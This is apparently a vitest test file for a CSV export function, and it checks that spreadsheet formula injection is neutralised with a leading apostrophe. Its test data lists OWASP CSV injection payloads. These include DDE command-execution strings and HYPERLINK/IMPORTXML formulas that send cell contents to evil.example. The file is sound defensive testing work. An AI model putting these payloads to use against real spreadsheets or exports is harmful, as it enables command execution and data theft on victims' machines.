/**
 * CSV formula injection (issue 22): text cells are neutralised per OWASP
 * (https://owasp.org/www-community/attacks/CSV_Injection): a leading
 * apostrophe and quotes for cells starting with =, +, -, @, tab or CR; numbers
 * (negative ones included) stay numbers.
 */
import { describe, expect, it } from "vitest";
import { csvField, toCsv } from "../../src/report/csv.js";

/** The payloads of OWASP's CSV injection page and its cheat sheet. */
const OWASP = [
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: please click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  "+2+3+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=1+1",
  "+1+1",
  "-1+1",
  "@A1",
  " =1+1",
  "＝1+1",
];

/** Parse one CSV line as RFC 4180 and a spreadsheet would (quotes removed). */
function cells(line: string): string[] {
  const out: string[] = [];
  let cur = "";
  let q = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i]!;
    if (q) {
      if (c === '"' && line[i + 1] === '"') {
        cur += '"';
        i++;
      } else if (c === '"') q = false;
      else cur += c;
    } else if (c === '"') q = true;
    else if (c === ",") {
      out.push(cur);
      cur = "";
    } else cur += c;
  }
  out.push(cur);
  return out;
}

describe("CSV cells", () => {
  it.each(OWASP)("neutralises %j: one cell, starting with an apostrophe, the text kept", (payload) => {
    const field = csvField(payload);
    expect(field.startsWith(`"'`)).toBe(true);
    // read back: one cell, the apostrophe then the payload unchanged
    expect(cells(`${field},x`)).toEqual([`'${payload}`, "x"]);
  });
  it("leaves negative numbers as numbers, whether numbers or numeric text", () => {
    expect(csvField(-12.5)).toBe("-12.5");
    expect(csvField(-1e-9)).toBe("-1e-9");
    expect(csvField("-12.5")).toBe("-12.5");
    expect(csvField("+3%")).toBe("+3%");
    expect(csvField("-.5")).toBe("-.5");
  });
  it("leaves ordinary text alone and still quotes commas and quotes", () => {
    expect(csvField("软件业务收入")).toBe("软件业务收入");
    expect(csvField("a, b")).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("e-commerce")).toBe("e-commerce");
  });
  it("a whole table with a hostile name keeps its columns", () => {
    const csv = toCsv(["name", "value"], [['=HYPERLINK("http://x")', -5]]);
    expect(csv).toBe(`\uFEFFname,value\n"'=HYPERLINK(""http://x"")",-5\n`);
  });
});
